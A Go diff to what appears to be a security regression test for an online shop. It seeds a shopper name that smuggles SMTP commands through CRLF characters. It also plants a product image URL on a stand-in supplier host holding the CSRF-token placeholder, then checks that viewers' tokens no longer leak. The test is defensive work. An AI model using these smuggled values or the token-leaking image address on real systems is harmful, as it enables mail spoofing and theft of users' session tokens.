@@ -19,8 +19,15 @@ const smuggledName = "Eve\r.\r\nMAIL FROM:<ceo@example.com>\r\nRCPT TO:<victim@e
 // eleventhName stores smuggledName as a seeded shopper's name before the
 // server starts (a name taken before registrations refused it).
 func eleventhName(db *models.DB) error {
-	return db.W.Model(&models.Shopper{}).Where("email = ?", shopperEmail(81)).Update("name", smuggledName).Error
+	if err := db.W.Model(&models.Shopper{}).Where("email = ?", shopperEmail(81)).Update("name", smuggledName).Error; err != nil {
+		return err
+	}
+	return db.W.Model(&models.Product{}).Where("external_id = ?", "SKU-10003").Update("image_url", plantedImage).Error
 }
+
+// plantedImage is a supplier's image address holding the placeholder the
+// shop's cached pages used for each viewer's CSRF token.
+const plantedImage = "https://www.seller-3.example/p.jpg?t=~csrf-token-placeholder-7d1f~"
 
 // eleventhAttack replays what the eleventh outside attack found
 // (docs/security.md).
@@ -76,6 +83,24 @@ func (a *attack) eleventhAttack() {
 	}
 	a.check("hidden interests are bounded", size >= 0 && size <= models.MaxHiddenInterests*models.MaxInterestLen,
 		"5 removals of a 1.9 MB brand and 120 of short ones (answers %v): the shopper's list holds %d bytes", codes, size)
+
+	// Low: a supplier's image address holding the cached pages' placeholder
+	// for the CSRF token had every viewer's token sent to the supplier.
+	v := a.client("127.0.11.3")
+	page, body := v.get("/p/3")
+	if page.StatusCode == http.StatusMovedPermanently {
+		page, body = v.get(page.Header.Get("Location"))
+	}
+	tok := ""
+	if m := csrfField.FindStringSubmatch(body); m != nil {
+		tok = m[1]
+	}
+	img := ""
+	if m := productImage.FindStringSubmatch(body); m != nil {
+		img = m[1] + m[2]
+	}
+	a.check("a product's image address cannot carry a viewer's token", page.StatusCode == http.StatusOK && tok != "" && img == plantedImage && !strings.Contains(body, "t="+tok),
+		"product page %d, its image %q", page.StatusCode, img)
 
 	// Low: the events API stored text that is not UTF-8 as U+FFFD.
 	status, out := a.api(http.MethodPost, "/api/v1/events", a.evKey, "{\"events\":[{\"user_id\":\"eleventh-Jos\xe9\",\"type\":\"search\",\"query\":\"tent\"}]}")
